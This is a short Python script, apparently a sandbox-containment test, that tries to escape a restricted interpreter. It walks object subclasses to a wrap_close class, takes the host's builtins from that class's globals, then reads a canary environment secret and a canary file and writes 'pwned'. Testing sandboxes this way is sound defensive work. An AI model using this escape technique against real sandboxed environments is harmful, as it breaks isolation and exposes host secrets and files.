# attack: reach object through __mro__[-1], then its subclasses by a run-time name
reached = []


def loot(b):
    """Given the host's builtins (module or dict): keep it as the result, steal both secrets."""
    reached.append(b)
    try:
        if not isinstance(b, dict):
            b = getattr(b, "__dict__")
        ga = b["getattr"]
        os = b["__import__"]("os")
        print(ga(os, "environ")["MONTY_CANARY_SECRET"])
        print(ga(b["open"](canary_path), "read")())
        ga(b["open"](canary_write_path, "w"), "write")("pwned")
    except Exception as err:
        print("loot stopped:", type(err).__name__)


obj = (1).__class__.__mro__[-1]
subs = getattr(obj, "__subclasses__"[::-1][::-1])()
for cls in subs:
    if "wrap_close" in cls.__name__:
        loot(getattr(cls.__init__, "__globals__")["__builtins__"])
reached
